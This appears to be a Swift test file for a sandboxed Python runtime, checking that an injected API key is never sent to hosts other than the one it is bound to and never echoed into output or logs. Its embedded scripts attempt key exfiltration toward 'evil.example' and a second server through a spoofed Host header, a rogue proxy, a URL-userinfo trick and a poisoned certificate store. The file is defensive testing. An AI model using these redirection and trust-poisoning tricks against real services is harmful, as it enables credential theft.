// Keys that a server, a script or an option would bring to where they do not belong.
// SPDX-License-Identifier: Apache-2.0

import AmaruEnvironment
import AmaruTesting
import Foundation
import Testing

extension BuiltCommand {
    @Suite(.timeLimit(.minutes(5))) struct KeyLeakTests {
        static let key = "sk-never-read/by+python-42"

        let folder: TemporaryFolder

        init() throws {
            folder = try TemporaryFolder()
        }

        /// Runs lines of a script that have `fetch`, and in `bearer` a header with the placeholder.
        private func run(
            _ lines: String,
            _ options: [String],
            _ arguments: [String],
            _ variables: [String: String] = [:]
        ) async throws -> AmaruProcess.Result {
            try folder.write(
                """
                import os, sys
                import _amaru_http as http

                bearer = ["Authorization", "Bearer " + os.environ["TEST_KEY"]]

                def fetch(url, fields, options=None, method="GET"):
                    flat = [part.encode() for part in fields]
                    exchange = http.open(method, url, flat, None, False, {}, options)
                    try:
                        print(*http.head_blocking(exchange))
                        while pieces := http.read_chunks_blocking(exchange):
                            print(b"".join(pieces))
                    except http.TransferError as exc:
                        print(exc.code, exc.message)


                """ + lines,
                to: "script.py"
            )
            return try await AmaruProcess.run(
                ["run", "script.py"] + options + ["--"] + arguments,
                in: folder,
                environment: variables.merging(["TEST_KEY": Self.key]) { $1 }
            )
        }

        @Test(
            .enabled(if: TestCertificates.isAvailable, "the openssl command is absent"),
            arguments: ["SSL_CERT_FILE", "SSL_CERT_DIR"]
        )
        func `A script that adds an authority gets no key sent to its own server`(
            _ variable: String
        ) async throws {
            let (authority, other) = (try TestCertificates(), try TestCertificates())
            let certificate = try authority.issue(for: ["DNS:key.example"])
            let server = ScriptedServer([.text("reached")], certificate: certificate)
            // The user's proxy, which the script's server has got behind.
            let tunnel = TunnelServer(to: try await server.start())
            let proxy = "http://127.0.0.1:\(try await tunnel.start())"
            // The place that is trusted holds another authority, until the script writes into it.
            let known = try other.issue(for: ["IP:127.0.0.1"]).authority
            try folder.write(
                String(contentsOfFile: known, encoding: .utf8),
                to: "trusted/known.pem"
            )
            let place = folder.path + "/trusted" + (variable == "SSL_CERT_DIR" ? "" : "/known.pem")
            let lines = """
                place, own, url = sys.argv[1:]
                os.environ["SSL_CERT_FILE"] = own
                if os.path.isdir(place): place += "/own.pem"
                with open(own) as pem, open(place, "a") as trusted: trusted.write(pem.read())
                fetch(url, bearer)
                fetch(url, bearer, {"ca_file": own})
                fetch(url, bearer, {"ca_file": place})
                fetch(url, bearer, {"verify": False})
                fetch(url, [], {"ca_file": own})
                """
            let url = "https://key.example"
            let options = ["--key-env", "TEST_KEY@\(url)"]
            let variables = [variable: place, "HTTPS_PROXY": proxy]
            let result = try await run(
                lines,
                options,
                [place, certificate.authority, url],
                variables
            )
            let requests = server.requests.map { $0.header("authorization") }
            // What the user trusts gets the key: the same file, in the next run.
            let next = try await run("fetch(sys.argv[1], bearer)", options, [url], variables)
            await tunnel.shutDown()
            await server.shutDown()
            let codes = result.output.split(separator: "\n").map { $0.prefix { $0 != " " } }
            #expect(
                codes == [
                    "connect", "secret_refused", "secret_refused", "secret_refused", "200",
                    "b'reached'",
                ],
                "\(result)"
            )
            #expect(requests == [nil])
            #expect(next.output.contains("reached"), "\(next)")
            #expect(server.requests.last?.header("authorization") == "Bearer \(Self.key)")
        }

        @Test func `A server that sends the key back tells neither the script nor a file`()
            async throws
        {
            let server = ScriptedServer { request, _ in
                let sent = request.header("authorization") ?? ""
                let key = String(sent.dropFirst("Bearer ".count))
                let encoded = key.utf8.map { "%" + String($0, radix: 16) }.joined()
                let basic = Data("me:\(key)".utf8).base64EncodedString()
                return .text(
                    "\(key) \(encoded) \(basic) end",
                    status: 401,
                    reason: "No \(key)",
                    headers: [("X-Echo", sent), ("Location", "/next?echo=\(encoded)")]
                )
            }
            try await server.start()
            let result = try await run(
                """
                fetch(sys.argv[1], bearer)
                # A script that got to know the key by other means.
                fetch(sys.argv[1] + "/" + sys.argv[2], bearer)
                """,
                [
                    "--key-env", "TEST_KEY@\(server.url)", "--record", "session.jsonl",
                    "--trace-http", "trace.jsonl",
                ],
                [server.url, Self.key]
            )
            await server.shutDown()
            let sent = server.requests.map { $0.header("authorization") }
            #expect(sent == ["Bearer \(Self.key)", "Bearer \(Self.key)"])
            #expect(result.output.contains("401 b'No ***"), "\(result)")
            #expect(result.output.contains("end'"), "\(result)")
            let names = ["session.jsonl", "trace.jsonl"]
            let files = try names.map { name in
                try String(contentsOf: folder.url.appending(path: name), encoding: .utf8)
            }
            let encoded = Self.key.utf8.suffix(8).map { "%" + String($0, radix: 16) }.joined()
            let basic = Data("me:\(Self.key)".utf8).base64EncodedString().dropFirst(8).prefix(16)
            for text in [result.output, result.errors] + files {
                for part in [Self.key, "python-42", encoded, String(basic)] {
                    #expect(!text.contains(part), "\(text)")
                }
            }
        }

        @Test func `A script cannot lead the key away from its origin`() async throws {
            let server = ScriptedServer([.text("reached")])
            let other = ScriptedServer([.text("stolen")])
            try await server.start()
            try await other.start()
            let result = try await run(
                """
                url, other = sys.argv[1:]
                fetch(url, bearer + ["Host", "evil.example"])
                fetch(url, bearer, {"target": b"http://evil.example/"})
                fetch(url, bearer, {"proxy": other})
                fetch(url, bearer, {"uds": "/nowhere"})
                fetch(url, bearer, method="TRACE")
                fetch(url + "@" + other.removeprefix("http://"), bearer)
                """,
                ["--key-env", "TEST_KEY@\(server.url)"],
                [server.url, other.url]
            )
            await server.shutDown()
            await other.shutDown()
            let lines = result.output.split(separator: "\n")
            #expect(lines.count == 6, "\(result)")
            #expect(lines.allSatisfy { $0.hasPrefix("secret_refused ") }, "\(result)")
            #expect(server.requests.isEmpty && other.requests.isEmpty)
        }

        @Test func `A proxy, a Host and a socket of the script's own need an entry too`()
            async throws
        {
            let allowed = ScriptedServer([.text("reached")])
            let other = ScriptedServer([.text("bypassed")])
            try await allowed.start()
            try await other.start()
            let lines = """
                url, other = sys.argv[1:]
                fetch(url, [], {"proxy": other})
                fetch(url, ["Host", other.removeprefix("http://")])
                fetch(url, [], {"uds": "/nowhere"})
                """
            let options = ["--key-env", "TEST_KEY", "--allow-net", allowed.url]
            let refused = try await run(lines, options, [allowed.url, other.url])
            #expect(allowed.requests.isEmpty && other.requests.isEmpty)
            let both = options + ["--allow-net", other.url]
            let allowing = try await run(lines, both, [allowed.url, other.url])
            await allowed.shutDown()
            await other.shutDown()
            let way = "To allow them, use the option --allow-net"
            let codes = refused.output.split(separator: "\n").map { $0.prefix { $0 != " " } }
            #expect(codes == ["not_allowed", "not_allowed", "not_allowed"], "\(refused)")
            #expect(refused.output.contains("\(way) \(other.url).\n"), "\(refused)")
            #expect(refused.output.contains("\(way) unix:/nowhere.\n"), "\(refused)")
            #expect(allowing.output.contains("b'bypassed'"), "\(allowing)")
            #expect(allowing.output.contains("b'reached'"), "\(allowing)")
        }

        #if os(Linux)
            @Test func `A process with a key cannot be dumped`() async throws {
                let script = try folder.write(
                    """
                    import ctypes
                    print("dumpable", ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))
                    """,
                    to: "dumpable.py"
                )
                let result = try await AmaruProcess.run(
                    ["run", script.path, "--key-env", "TEST_KEY"],
                    environment: ["TEST_KEY": Self.key]
                )
                #expect(result.output == "dumpable 0\n", "\(result)")
            }
        #endif
    }
}
